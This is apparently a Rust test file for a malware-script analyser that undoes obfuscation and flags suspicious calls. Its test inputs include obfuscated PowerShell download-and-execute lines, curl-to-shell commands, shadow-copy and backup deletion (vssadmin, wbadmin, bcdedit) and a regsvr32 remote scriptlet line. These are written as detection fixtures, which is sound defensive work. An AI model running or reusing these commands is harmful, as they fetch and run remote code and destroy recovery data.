use crate::Kind;
use crate::kit::{facts, oddities, reading, told, tree};
use crate::{Limits, Part, take_apart};
use expect_test::{Expect, expect};

/// Reads a script of a kind: what is told of its calls, what is odd, and what the parts hold.
#[track_caller]
fn check(kind: Kind, source: &str, expected: Expect) {
    let read = reading(kind, source.as_bytes());
    let interesting = ["calls", "hidden_calls", "shebang", "urls", "encoded", "blobs"];
    let vectors: Vec<_> = read.vectors.iter().filter(|vector| interesting.contains(&vector.name)).cloned().collect();
    let mut text = facts(&vectors) + &oddities(&read);
    for child in &read.children {
        text += &format!("{}: {}\n", child.name, String::from_utf8_lossy(child.bytes(source.as_bytes()).unwrap()));
    }
    // What is expected stands in a source whose lines end as all of ours do.
    expected.assert_eq(&text.replace("\r\n", "\n"));
}

fn named(name: &str, bytes: &[u8]) -> Part {
    take_apart(name, bytes, &Limits::default(), &[], &|| false)
}

fn wide_base64(text: &str) -> String {
    base64(&text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for group in bytes.chunks(3) {
        let word = group.iter().fold(0_u32, |word, byte| word << 8 | u32::from(*byte)) << (8 * (3 - group.len()));
        for place in 0..4 {
            let letter = LETTERS[(word >> (18 - 6 * place) & 63) as usize] as char;
            text.push(if place <= group.len() { letter } else { '=' });
        }
    }
    text
}

#[test]
fn letters_by_their_number_and_texts_in_pieces_are_put_together() {
    check(
        Kind::JavaScript,
        r#"var a = "WScr" + 'ipt.Sh' + "\x65ll"; var b = new ActiveXObject(a); eval(String.fromCharCode(104, 0x74, 116+0, 112) + unescape("%3a%2F%2fexample.org")); // it's 'a' + 'b'"#,
        expect![[r#"
            script.hidden_calls = ["wscript.shell", "shell"]
            script.calls = ["activexobject", "string.fromcharcode", "unescape(", "eval", "fromcharcode"]
            layer.hidden-calls calls=List(["wscript.shell", "shell"])
            put-together.js: var a = "WScript.Shell"; var b = new ActiveXObject("WScript.Shell"); eval("http://example.org"); // it's 'a' + 'b'
        "#]],
    );
    check(
        Kind::VbScript,
        "Set s = Create\" 'no\nx = Chr(65) & ChrW(&H44) & \"ODB.\" & _\r\n  StrReverse(\"maertS\")\nCreateObject(x) ' a \"+\" b\nMsgBox \"a \"\"b\"\"\" & \"c\"",
        expect![[r#"
            script.hidden_calls = ["adodb.stream"]
            script.calls = ["createobject(", "chr", "chrw", "strreverse"]
            layer.hidden-calls calls=List(["adodb.stream"])
            put-together.vbs: Set s = Create" 'no
            x = "ADODB.Stream"
            CreateObject("ADODB.Stream") ' a "+" b
            MsgBox "a ""b""c"
        "#]],
    );
    check(
        Kind::PowerShell,
        "&('I'+'EX') (New-Obj`ect Ne`t.WebClient).(\"{1}{0}{2}\" -f 'nload','Dow','String')('http://example.org/a'); $x = [char]0x41 + [char](66) + 'aXb'.Replace('X','-') ; ('a','b','c') -join ''",
        expect![[r#"
            script.urls = ["http://example.org/a"]
            script.hidden_calls = ["downloadstring", "net.webclient", "new-object", "iex"]
            layer.hidden-calls calls=List(["downloadstring", "net.webclient", "new-object", "iex"])
            put-together.ps1: &"IEX" (New-Object Net.WebClient)."DownloadString"('http://example.org/a'); $x = "ABa-b" ; "abc"
        "#]],
    );
}

#[test]
fn texts_in_which_something_is_filled_in_are_left_alone() {
    check(
        Kind::PowerShell,
        "$a = \"x$b\" + 'y'; \"$($c + \"d\")e\" + 'f'; 'Invoke-Exp' + \"ression`$\" + '$x'; \"costs 5$\"",
        expect![[r#"
            script.hidden_calls = ["invoke-expression"]
            layer.hidden-calls calls=List(["invoke-expression"])
            put-together.ps1: $a = "x$b" + 'y'; "$($c + "d")e" + 'f'; "Invoke-Expression`$`$x"; "costs 5$"
        "#]],
    );
    check(
        Kind::JavaScript,
        "let a = `x${b + '}' + 'c'}` + 'd' + 'e'; eval(`WScript` + `.Shell`); `plain`",
        expect![[r#"
            script.hidden_calls = ["wscript.shell", "shell"]
            script.calls = ["eval"]
            layer.hidden-calls calls=List(["wscript.shell", "shell"])
            put-together.js: let a = `x${b + '}' + 'c'}` + "de"; eval("WScript.Shell"); `plain`
        "#]],
    );
    check(
        Kind::Php,
        "<?php $f = 'base' . \"64_dec\" . 'ode'; $g = \"a{$x['k']}\" . 'b' . \"c$d\"; ?>",
        expect![[r#"
        script.hidden_calls = ["base64_decode"]
        layer.hidden-calls calls=List(["base64_decode"])
        put-together.php: <?php $f = "base64_decode"; $g = "a{$x['k']}" . 'b' . "c$d"; ?>
    "#]],
    );
    check(
        Kind::Python,
        "a = f'{x}b' + 'c' + 'd'; b = 'os.sys' + 'tem'",
        expect![[r#"
        script.hidden_calls = ["os.system", "system"]
        layer.hidden-calls calls=List(["os.system", "system"])
        put-together.py: a = f'{x}b' + "cd"; b = "os.system"
    "#]],
    );
}

#[test]
fn variables_and_carets_of_batch_files_are_undone() {
    check(
        Kind::Batch,
        "@echo off\nset a=power\nset \"b=shell\"\nset abc=xcertutilx\n%a%%b% -nop\n%abc:~1,-1% -dec^ode a b\nv^s^sadmin de^lete sha^dows /all\necho %PATH% 100%% ^& done\n",
        expect![[r#"
            script.hidden_calls = ["powershell", "-decode ", "delete shadows", "vssadmin"]
            script.calls = ["certutil", "shell"]
            layer.hidden-calls calls=List(["powershell", "-decode ", "delete shadows", "vssadmin"])
            put-together.bat: @echo off
            set a=power
            set "b=shell"
            set abc=xcertutilx
            powershell -nop
            certutil -decode a b
            vssadmin delete shadows /all
            echo %PATH% 100%% ^& done

        "#]],
    );
}

#[test]
fn texts_in_another_alphabet_are_parts() {
    let command = wide_base64("Write-Output 'harmless'; Get-Date");
    check(
        Kind::Batch,
        &format!("powershell -NoP -e {command}\n"),
        expect![[r#"
        script.calls = ["-nop ", "powershell", "encoded-command"]
        script.blobs = 1
        blob-1.ps1: Write-Output 'harmless'; Get-Date
    "#]],
    );
    check(
        Kind::Python,
        &format!("#!/usr/bin/env python3\nexec(base64.b64decode('{}'))\n", base64(b"print('a harmless text')\n")),
        expect![[r#"
            script.shebang = "/usr/bin/env python3"
            script.calls = ["base64.b64decode", "exec"]
            script.blobs = 1
            blob-1.py: print('a harmless text')

        "#]],
    );
    let digits: String =
        b"a text that is written in hexadecimal digits".iter().map(|byte| format!("{byte:02x}")).collect();
    check(
        Kind::Python,
        &format!("x = bytes.fromhex('{digits}')"),
        expect![[r#"
        script.blobs = 1
        blob-1.py: a text that is written in hexadecimal digits
    "#]],
    );
    let numbers: Vec<String> =
        crate::kit::zip(&[crate::kit::stored("a.txt", b"hello")]).iter().map(u8::to_string).collect();
    let part = named("x.ps1", format!("[Byte[]] $x = {}\n$y = 1,2,3\n", numbers.join(",")).as_bytes());
    expect![[r#"
        x.ps1 | txt 304
          blob-1.ps1 | zip 113 | numbers
            a.txt | txt 5
    "#]]
    .assert_eq(&tree(&part));
}

#[test]
fn encoded_sections_are_decoded() {
    let coded = super::encoded::encode("MsgBox \"Hello @ <World>\"");
    assert!(coded.contains("\\ko$K6,"), "{coded}");
    check(
        Kind::EncodedScript,
        &coded,
        expect![[r#"
            script.encoded = 1
            decoded-1.vbs: MsgBox "Hello @ <World>"
        "#]],
    );
    check(
        Kind::EncodedScript,
        "#@~^AAAAAA==\\ko$K6P",
        expect![[r#"
        script.encoded = 1
        layer.encoded-damaged @0
        decoded-1.vbs: MsgBox{
    "#]],
    );
}

#[test]
fn what_takes_backups_away_or_pipes_to_a_shell_is_named() {
    check(
        Kind::Shell,
        "#!/bin/sh\ncurl -fsSL http://example.org/i | sudo bash\necho system is up\n",
        expect![[r#"
        script.shebang = "/bin/sh"
        script.urls = ["http://example.org/i"]
        script.calls = ["curl ", "fetched-and-piped-to-shell"]
    "#]],
    );
    check(
        Kind::Batch,
        "vssadmin  Delete   Shadows /all /quiet\nbcdedit /set {default} recoveryenabled No\nwbadmin delete catalog -quiet\nregsvr32 /s /u /i:http://example.org/a.sct scrobj.dll\n",
        expect![[r#"
            script.urls = ["http://example.org/a.sct"]
            script.calls = ["regsvr32", "/i:http", "delete shadows", "vssadmin", "wbadmin delete", "delete catalog", "bcdedit", "recoveryenabled no"]
        "#]],
    );
    check(Kind::JavaScript, "function evaluate(run) { return medieval(run); } // eval is evil\n", expect![[r#""#]]);
}

#[test]
fn plain_text_is_read_as_what_its_name_says() {
    let part = named("a.vbs", b"x = 1\n");
    expect![[r#"
        script.language = "vbscript"
        script.lines = 1
        script.longest_line = 5
        script.entropy = 2.252
        script.put_together = 0
    "#]]
    .assert_eq(&told(&part, "script"));
    assert_eq!(told(&named("a.txt", b"x = 1\n"), "script"), "");
}

#[test]
fn scripts_that_would_grow_or_never_end_end() {
    let doubling = "set a=xxxxxxxxxxxxxxxx\n".to_owned() + &"set a=%a%%a%\n".repeat(3000);
    let part = named("x.bat", doubling.as_bytes());
    assert!(part.file.is_some());
    for piece in [
        "\"a\"+",
        "(\"a\"+",
        "String.fromCharCode(",
        "\"{0}\" -f ",
        "'a'.replace('a','aaaaaaaa')",
        "`",
        "#@~^",
        "/*",
        "chr(1+",
        "-join('a',",
        "('a',",
        "\"\\",
        "\"\"",
    ] {
        let start = std::time::Instant::now();
        for name in ["x.js", "x.vbs", "x.ps1", "x.bat", "x.py"] {
            named(name, piece.repeat(20_000).as_bytes());
        }
        assert!(start.elapsed().as_secs() < 20, "{piece}: {:?}", start.elapsed());
    }
    for start in ["'a'", "\"\\"] {
        let chain = start.to_owned() + &".replace('a','aaaaaaaa')".repeat(6) + &".replace('b','c')\\\"".repeat(10_000);
        let begun = std::time::Instant::now();
        named("x.js", chain.as_bytes());
        assert!(begun.elapsed().as_secs() < 20, "{start}: {:?}", begun.elapsed());
    }
}

#[test]
fn names_that_stand_for_a_text_are_put_in() {
    check(
        Kind::VbScript,
        "a=\"WScr\"\r\nb=\"ipt.Shell\"\r\nSet o=CreateObject(a & b)\r\ns=\"adodb\"\r\ns=s & \".stream\"\r\nIf a = \"x\" Then MsgBox s\r\n",
        expect![[r#"
            script.hidden_calls = ["wscript.shell"]
            script.calls = ["createobject(", "shell"]
            layer.hidden-calls calls=List(["wscript.shell"])
            put-together.vbs: a="WScr"
            b="ipt.Shell"
            Set o=CreateObject("WScript.Shell")
            s="adodb"
            s=s & ".stream"
            If "WScr" = "x" Then MsgBox s

        "#]],
    );
    check(
        Kind::PowerShell,
        "$a='Down'; $b = 'loadString'\n(New-Object Net.WebClient).($a+$b).Invoke('x')\n$c += 'iex'; foreach ($d in $a) { $d + 'x' }",
        expect![[r#"
            script.hidden_calls = ["downloadstring"]
            script.calls = ["net.webclient", "new-object", "iex"]
            layer.hidden-calls calls=List(["downloadstring"])
            put-together.ps1: $a='Down'; $b = 'loadString'
            (New-Object Net.WebClient)."DownloadString".Invoke('x')
            $c += 'iex'; foreach ($d in "Down") { $d + 'x' }
        "#]],
    );
    check(
        Kind::JavaScript,
        "var _0x=[\"WScript.Shell\",\"Run\"];var k='a';k+='b';new ActiveXObject(_0x[0])[_0x[0x1]](k); f({k: 1}); x._0x[0]; function g(_1) { var _1 = 'x'; return _1; }",
        expect![[r#"
            script.calls = ["activexobject", "wscript.shell", "run", "shell"]
        "#]],
    );
    check(
        Kind::Python,
        "a = 'os.sys'\nb = a + 'tem'\nfor a in c: pass\nd = 'sub'\ne = d + 'process.run'\n",
        expect![[r#"
            script.hidden_calls = ["subprocess."]
            script.calls = ["run"]
            layer.hidden-calls calls=List(["subprocess."])
            put-together.py: a = 'os.sys'
            b = a + 'tem'
            for a in c: pass
            d = 'sub'
            e = "subprocess.run"

        "#]],
    );
}

#[test]
fn calls_that_decode_join_and_choose_are_undone() {
    check(
        Kind::JavaScript,
        &format!(
            "eval(atob(\"{}\")); x = ['hell','.S','WScript'].reverse().join(''); y = ['a','regsvr32'][1]; z = 'a-b'.split('-').join('')",
            base64(b"var o = new ActiveXObject(\"adodb.stream\");")
        ),
        expect![[r#"
            script.hidden_calls = ["activexobject", "wscript.shell", "adodb.stream", "shell"]
            script.calls = ["regsvr32", "atob(", "eval"]
            script.blobs = 1
            layer.hidden-calls calls=List(["activexobject", "wscript.shell", "adodb.stream", "shell"])
            put-together.js: eval("var o = new ActiveXObject(\"adodb.stream\");"); x = "WScript.Shell"; y = "regsvr32"; z = "ab"
            blob-1.js: var o = new ActiveXObject("adodb.stream");
        "#]],
    );
    check(
        Kind::VbScript,
        "Execute(Replace(\"W$Scri$pt.S$hell\",\"$\",\"\"))\r\nx = Join(Array(\"adodb\",\"stream\"),\".\")\r\n",
        expect![[r#"
            script.hidden_calls = ["wscript.shell", "adodb.stream", "shell"]
            script.calls = ["execute"]
            layer.hidden-calls calls=List(["wscript.shell", "adodb.stream", "shell"])
            put-together.vbs: Execute("WScript.Shell")
            x = "adodb.stream"

        "#]],
    );
    check(
        Kind::PowerShell,
        &format!(
            "& ([char[]](105,101,120) -join ''); -join [char[]]@(0x69,101,120); [string]::join('',('down','loadfile')); [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}'))",
            wide_base64("Invoke-Expression")
        ),
        expect![[r#"
            script.hidden_calls = ["invoke-expression", "downloadfile", "iex"]
            script.calls = ["frombase64string"]
            script.blobs = 1
            layer.hidden-calls calls=List(["invoke-expression", "downloadfile", "iex"])
            put-together.ps1: & "iex"; "iex"; "downloadfile"; "Invoke-Expression"
            blob-1.ps1: Invoke-Expression
        "#]],
    );
}

#[test]
fn scripts_of_any_interpreter_are_read() {
    for (interpreter, source) in [
        ("/usr/bin/lua", "os.execute(\"curl http://example.org/a | sh\")"),
        ("/usr/bin/tclsh", "exec sh -c \"curl http://example.org/a | sh\""),
        ("/usr/bin/awk -f", "BEGIN { system(\"curl http://example.org/a | sh\") }"),
        ("/opt/else/interpreter", "run \"curl http://example.org/a | sh\""),
    ] {
        let part = named("x", format!("#!{interpreter}\n{source}\n").as_bytes());
        let told = told(&part, "script");
        assert!(told.contains("fetched-and-piped-to-shell"), "{interpreter}: {told}");
        assert!(told.contains("http://example.org/a"), "{interpreter}: {told}");
    }
}
